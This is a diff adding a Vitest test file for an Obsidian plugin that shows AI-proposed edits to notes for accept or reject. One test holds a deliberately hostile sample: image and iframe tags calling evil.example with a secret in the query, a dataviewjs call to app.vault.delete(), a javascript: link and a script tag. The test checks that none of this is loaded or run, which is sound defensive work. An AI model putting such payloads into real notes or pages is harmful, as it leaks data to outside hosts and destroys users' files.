@@ -1,0 +1,112 @@
+// @vitest-environment jsdom
+/** Edit blocks in notes, as Obsidian hands them over. */
+import { beforeEach, expect, it, vi } from "vitest";
+
+vi.mock("obsidian", () => {
+  class Component {
+    private readonly ends: (() => void)[] = [];
+    register(work: () => void) {
+      this.ends.push(work);
+    }
+    unload() {
+      for (const work of this.ends) work();
+    }
+  }
+  class TFile {
+    constructor(readonly path: string) {}
+  }
+  return { Notice: class { constructor(text: string) { notices.push(text); } }, TFile, MarkdownRenderChild: Component, MarkdownView: class {}, setIcon: () => undefined, getIcon: () => null };
+});
+const notices: string[] = [];
+const { TFile } = await import("obsidian");
+const { parseBlock, registerBlocks, withoutBanner } = await import("../src/blocks");
+
+function append(this: HTMLElement, tag: string, { cls = "", text = "", attr = {} }: { cls?: string; text?: string; attr?: object } = {}) {
+  const element = document.createElement(tag);
+  element.className = cls;
+  element.textContent = text;
+  for (const [name, value] of Object.entries(attr)) element.setAttribute(name, String(value));
+  return this.appendChild(element);
+}
+const shortcuts = {
+  createEl: append,
+  createDiv(this: HTMLElement, options: object) {
+    return append.call(this, "div", options);
+  },
+  createSpan(this: HTMLElement, options: object) {
+    return append.call(this, "span", options);
+  },
+  setAttr: HTMLElement.prototype.setAttribute,
+};
+Object.assign(HTMLElement.prototype, shortcuts);
+
+const sent: [string, unknown][] = [];
+const files = new Map([["New.md", "---\ntag: x\n---\n```ai-new-note\nby Claude\n```\n#ai_edit\n\n# New\n\n$$ stays\n"]]);
+const trashed: string[] = [];
+const drawers = new Map<string, (source: string, element: HTMLElement, context: object) => void>();
+const plugin = {
+  app: {
+    vault: { getAbstractFileByPath: (path: string) => new TFile(...([path] as unknown as [])), process: async (file: { path: string }, work: (text: string) => string) => void files.set(file.path, work(files.get(file.path)!)) },
+    workspace: { getLeavesOfType: () => [] },
+    fileManager: { trashFile: async ({ path }: { path: string }) => void trashed.push(path) },
+  },
+  connection: { client: { raw: async (_: string, path: string, { body }: { body: unknown }) => void sent.push([path, body]) } },
+  host: { href: () => undefined, open: () => undefined },
+  registerMarkdownCodeBlockProcessor: (name: string, draw: never) => void drawers.set(name, draw),
+};
+registerBlocks(plugin as never);
+
+let child: { unload(): void } | undefined;
+function shown(source: string, kind = "ai-edit"): HTMLElement {
+  const root = document.body.appendChild(document.createElement("div"));
+  drawers.get(kind)!(source, root, { sourcePath: kind === "ai-edit" ? "Garden.md" : "New.md", addChild: (made: typeof child) => (child = made) });
+  return root;
+}
+
+beforeEach(() => {
+  document.body.replaceChildren();
+  sent.length = 0;
+});
+
+it("draws both texts as Markdown with their badge, and decides at the server", async () => {
+  const root = shown('{"id":"c4-1","type":"replace","before":"two **cans**\\n","after":"- one can\\n"}');
+
+  expect(root.querySelector(".ai-edit-badge-replace")?.textContent).toBe("[~] Replace");
+  expect(root.querySelector(".ai-edit-before strong")?.textContent).toBe("cans");
+  expect(root.querySelector(".ai-edit-after li")?.textContent).toBe("one can");
+  root.querySelector<HTMLElement>(".ai-edit-accept")!.click();
+  await vi.waitFor(() => expect(sent).toEqual([["/blocks/accept", { path: "Garden.md", ids: ["c4-1"] }]]));
+  child!.unload();
+  expect(root.querySelector(".ai-edit-before")?.childElementCount).toBe(0);
+});
+
+it.each([["add", ["ai-edit-after"]], ["delete", ["ai-edit-before"]]])("of %s shows the one text that there is", (type, sides) => {
+  const root = shown(JSON.stringify({ id: "1", type, before: "b", after: "a" }));
+
+  expect([...root.querySelectorAll(".ai-edit-before, .ai-edit-after")].map((side) => side.className)).toEqual(sides);
+});
+
+it.each(["", "{", "null", "[]", '{"id":1}', '{"id":"a","type":"move"}', '{"id":"a","type":"add","after":{"x":1}}', '{"id":"","type":"add"}'])("says that %j is no edit block", (source) => {
+  expect(parseBlock(source)).toBeUndefined();
+  expect(shown(source).textContent).toBe("Invalid edit block");
+});
+
+it("loads nothing and runs nothing of what an agent proposes", () => {
+  const hostile = "![x](https://evil.example/?q=secret) <img src=https://evil.example/y> <iframe src=https://evil.example></iframe>\n\n![[https://evil.example/z.png]]\n\n```dataviewjs\napp.vault.delete()\n```\n\n[x](javascript:1) <script>window.hurt = 1</script>";
+  const root = shown(JSON.stringify({ id: "1", type: "replace", before: hostile, after: hostile }));
+
+  expect(root.querySelectorAll("img, iframe, script, video, audio, object, embed, link, style").length).toBe(0);
+  expect([...root.querySelectorAll("a")].map((link) => link.getAttribute("href")).filter((address) => /javascript/.test(address ?? ""))).toEqual([]);
+  expect(root.querySelector(".ai-edit-after code")?.textContent).toContain("app.vault.delete()");
+});
+
+it("keeps a new note without its banner, and every other byte of it", async () => {
+  shown("by Claude", "ai-new-note").querySelector<HTMLElement>(".ai-edit-accept")!.click();
+  await vi.waitFor(() => expect(files.get("New.md")).toBe("---\ntag: x\n---\n# New\n\n$$ stays\n"));
+  expect(withoutBanner("# none\n")).toBeUndefined();
+});
+
+it("moves a rejected new note to the trash, and not out of reach", async () => {
+  shown("by Claude", "ai-new-note").querySelector<HTMLElement>(".ai-edit-reject")!.click();
+  await vi.waitFor(() => expect(trashed).toEqual(["New.md"]));
+});
